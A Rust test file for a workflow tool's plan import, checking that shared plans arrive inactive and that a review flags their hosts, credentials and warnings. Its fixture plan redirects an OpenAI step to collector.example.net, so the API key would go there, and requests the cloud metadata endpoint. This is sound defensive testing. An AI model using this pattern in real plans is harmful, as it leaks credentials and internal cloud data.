//! A shared plan file that asks to be active, runs every second and posts to a
//! server: imported with `flowpilot-cli plans import`, it is stored not active,
//! the scheduler does not run it, and its review names the host, the credential
//! sent there, the writing step and the warnings. Activating it is a separate,
//! deliberate command (or `--activate` for one's own files).

use crate::util::{Timed, arg, cli, json_out, stderr, stdout, write_plan};
use chrono::{Duration, Utc};
use flowpilot_core::api::{Flowpilot, Options};
use flowpilot_core::scheduler::{NoSink, Scheduler};
use flowpilot_core::secrets::Keychain;
use flowpilot_engine::ManualClock;
use flowpilot_tests::target::Target;
use serde_json::{Value, json};
use std::sync::Arc;

fn shared_plan(target: &Target) -> Value {
    json!({
        "name": "Shared digest",
        "status": "active",
        "trigger": {"type": "cron", "cron_expression": "* * * * * *", "timezone": "UTC"},
        "steps": [
            {"id": "ask", "provider": "openai", "action": "chat_completion",
             "params": {"prompt": "Summarise", "base_url": "https://collector.example.net/v1"}},
            {"provider": "webhook", "action": "post_request",
             "params": {"url": target.url("/hook"), "payload": {"digest": "${steps.ask.output}"}}},
            {"provider": "http", "action": "request",
             "params": {"url": "http://metadata.google.internal/computeMetadata/v1/"}}
        ]
    })
}

/// Scheduler passes over `data` with a manual clock, one second apart; how many runs they started.
async fn scheduler_passes(data: &std::path::Path, passes: u32) -> usize {
    let clock = Arc::new(ManualClock::new(Utc::now()));
    let app = Arc::new(
        Flowpilot::open(Options {
            data_dir: Some(data.to_path_buf()),
            keychain: Some(Keychain::unavailable("not needed")),
            clock: Some(clock.clone()),
        })
        .expect("open the data folder"),
    );
    let scheduler = Scheduler::new(app, Arc::new(NoSink));
    let mut started = 0;
    for _ in 0..passes {
        let mut tick = scheduler.tick().expect("a scheduler pass");
        started += tick.started.len();
        for run in std::mem::take(&mut tick.runs) {
            run.await.expect("a scheduled run");
        }
        clock.advance(Duration::seconds(1));
    }
    started
}

#[tokio::test(flavor = "multi_thread")]
async fn an_imported_plan_is_not_active_until_reviewed_and_activated() {
    let _t = Timed::start("import review");
    let target = Target::start().await;
    let data = tempfile::tempdir().unwrap();
    let file = write_plan(data.path(), "shared.json", &shared_plan(&target));
    let dir = data.path().to_path_buf();

    let (imported, text) = tokio::task::spawn_blocking({
        let (dir, file) = (dir.clone(), file.clone());
        move || {
            let json = cli(&dir, &["plans", "import", arg(&file), "--json"]);
            let text = cli(&dir, &["plans", "import", arg(&file)]);
            (json, text)
        }
    })
    .await
    .unwrap();
    assert!(imported.status.success(), "{}", stderr(&imported));
    let row = json_out(&imported);
    assert_eq!(row[0]["plan"]["status"], "draft", "{row:#}");
    let id = row[0]["id"].as_str().unwrap().to_string();
    let text = stdout(&text);
    assert!(text.contains("not active"), "{text}");
    assert!(
        text.contains("contacts https://collector.example.net (step 1, sends openai/api_key)"),
        "{text}"
    );
    assert!(text.contains("warning: steps[2].params.url"), "{text}");

    // The scheduler leaves it alone: nothing reaches the server.
    assert_eq!(scheduler_passes(&dir, 3).await, 0);
    assert!(target.requests().is_empty(), "an imported plan ran unreviewed");

    // The review, as JSON.
    let review = tokio::task::spawn_blocking({
        let dir = dir.clone();
        move || json_out(&cli(&dir, &["plans", "review", "Shared digest", "--json"]))
    })
    .await
    .unwrap();
    assert!(review["schedule"].is_string(), "{review:#}");
    let hosts: Vec<&str> = review["hosts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h["host"].as_str().unwrap())
        .collect();
    assert_eq!(
        hosts,
        ["collector.example.net", "127.0.0.1", "metadata.google.internal"]
    );
    assert_eq!(review["hosts"][1]["writes"], true);
    assert_eq!(review["hosts"][2]["class"], "metadata");
    assert_eq!(
        review["credentials"],
        json!([{"provider": "openai", "field": "api_key", "is_set": false,
                "sent_to": ["https://collector.example.net"]}])
    );
    let writes: Vec<&str> = review["writes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|w| w["provider"].as_str().unwrap())
        .collect();
    assert_eq!(writes, ["webhook"]);
    let warned: Vec<&str> = review["warnings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|w| w["path"].as_str().unwrap())
        .collect();
    assert_eq!(warned, ["steps[1].params.url", "steps[2].params.url"]);

    // Activating is its own command; then the schedule runs.
    let activated = tokio::task::spawn_blocking({
        let (dir, id) = (dir.clone(), id.clone());
        move || cli(&dir, &["plans", "activate", &id])
    })
    .await
    .unwrap();
    assert!(activated.status.success(), "{}", stderr(&activated));
    assert!(scheduler_passes(&dir, 2).await >= 1, "the activated plan is scheduled");
}

#[test]
fn import_with_activate_keeps_ones_own_plan_active() {
    let data = tempfile::tempdir().unwrap();
    let file = write_plan(
        data.path(),
        "mine.json",
        &json!({"name": "Mine", "status": "draft",
                "steps": [{"provider": "logic", "action": "set", "params": {"value": 1}}]}),
    );
    let out = cli(data.path(), &["plans", "import", "--activate", arg(&file), "--json"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(json_out(&out)[0]["plan"]["status"], "active");
    // Importing it again without the flag makes the new version inactive.
    let out = cli(data.path(), &["plans", "import", arg(&file), "--json"]);
    assert_eq!(json_out(&out)[0]["plan"]["status"], "draft");
}
